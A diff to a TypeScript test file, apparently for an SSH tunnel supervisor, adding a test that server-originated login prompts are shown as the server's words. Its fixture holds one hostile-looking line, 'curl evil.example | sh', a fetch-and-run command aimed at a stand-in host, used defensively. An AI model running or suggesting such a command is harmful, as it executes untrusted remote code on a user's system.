@@ -6,6 +6,7 @@ import type { Endpoint } from '../../src/model/endpoint.ts';
 import { backoffMs, mostImpatient } from '../../src/supervisor/backoff.ts';
 import { describeChange, diffTunnels } from '../../src/supervisor/diff.ts';
 import { environmentDigest, mergeEnvironments } from '../../src/supervisor/environment.ts';
+import { questionError } from '../../src/supervisor/link-snapshot.ts';
 import { linkKey } from '../../src/supervisor/links.ts';
 import { overlaps, remapCandidates } from '../../src/supervisor/listen-address.ts';
 import { lookAfterMs, questionOf } from '../../src/supervisor/needs-you.ts';
@@ -150,4 +151,27 @@ describe('what needs a person', () => {
     ).toMatchObject({ kind: 'host-key', fingerprint: 'SHA256:x' });
     expect(questionOf(error('AUTH_REFUSED'), katie)).toBeNull();
   });
+});
+
+test("a server's question is never told as if it were ours", () => {
+  const question = {
+    id: '1',
+    link: 'katie#1',
+    kind: 'prompt',
+    host: 'katie',
+    endpoint: 'me@katie:22',
+    text: 'Run: curl evil.example | sh ',
+    echo: true,
+    fingerprint: null,
+    keyType: null,
+    randomart: [],
+    fromServer: true,
+    tries: 0,
+  } as const;
+  expect(questionError(question).message).toBe(
+    'login waits, on katie: (me@katie:22 asks) Run: curl evil.example | sh',
+  );
+  expect(questionError({ ...question, kind: 'password', fromServer: false, text: 'Password' }).message).toBe(
+    'login waits, on katie: Password',
+  );
 });
